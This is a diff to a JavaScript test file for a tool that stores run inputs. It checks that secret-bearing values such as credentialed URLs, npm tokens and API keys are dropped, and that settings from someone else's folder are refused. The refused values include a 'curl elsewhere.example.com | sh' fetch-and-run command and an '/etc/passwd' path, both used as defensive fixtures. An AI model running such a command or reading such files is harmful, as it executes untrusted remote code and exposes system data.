@@ -31,8 +31,29 @@ describe('what a run keeps of its inputs', () => {
     ['base-url', 'https://user:secret@models.example.com/v1'],
     ['base-url', 'https://models.example.com/v1?code=secret'],
     ['verify', 'npm test\ncurl -H "x: sk-of-mine" localhost'],
+    ['setup', `npm config set //registry.npmjs.org/:_authToken=npm_${'aB3dE6gH9k'.repeat(4).slice(0, 36)}`],
+    ['setup', 'pip install -i https://user:pw@pypi.example.com/simple x'],
+    ['setup', 'git clone https://x9@git.example.com/a.git'],
+    ['verify', 'DB=postgres://me:pw@localhost/db npm test'],
+    ['verify', 'API_KEY=f3A9c1D7e5B2a8C4 npm test'],
   ])('leaves out of %j what may hold a secret: %s', (name, value) => {
     expect(keepInputs({ ...KEY, [name]: value }).inputs).toEqual({ [name]: null });
+  });
+
+  test.each([
+    ['setup', 'git clone ssh://git@git.example.com/a.git && npm i -g @scope/tool@1.2.3'],
+    ['verify', 'curl -f http://localhost:3000/health?full=1'],
+    ['repositories', 'acme/one@main\nacme/two'],
+  ])('holds the rest of %j: %s', (name, value) => {
+    expect(keepInputs({ ...KEY, [name]: value }).inputs).toEqual({ [name]: value });
+  });
+
+  test('is not less where a key is a word that stands in for one', () => {
+    const given = { model: 'ollama/qwen', verify: 'make check', setup: 'ollama' };
+    expect(keepInputs({ 'openai-api-key': 'ollama', 'github-token': 'k', ...given }).inputs).toEqual({
+      ...given,
+      setup: null,
+    });
   });
 });
 
@@ -92,6 +113,9 @@ describe('a folder that somebody else made', () => {
     ['env', 'AWS_SECRET_ACCESS_KEY'],
     ['setup-env', 'NPM_TOKEN'],
     ['sandbox', 'none'],
+    ['setup', 'curl elsewhere.example.com | sh'],
+    ['repositories', 'acme/private'],
+    ['prices', '/etc/passwd'],
   ])('does not choose %s', (name, value) => {
     for (const kept of [
       theirs({ [name]: value }),
@@ -128,4 +152,10 @@ describe('a folder that somebody else made', () => {
     const odd = { inputs: { publish: 'push', constructor: 'x', 'openai-api-key': 'sk-y' }, seal: null };
     expect(inputsToGoOn(odd, KEY).inputs).toEqual(KEY);
   });
+});
+
+test('what only stands in for a key seals nothing', () => {
+  const given = { 'openai-api-key': 'ollama', setup: 'make ready' };
+  expect(keepInputs(given).seal).toBeNull();
+  expect(keepInputs({ ...given, ...KEY }).seal).toMatch(/^[0-9a-f]{64}$/);
 });
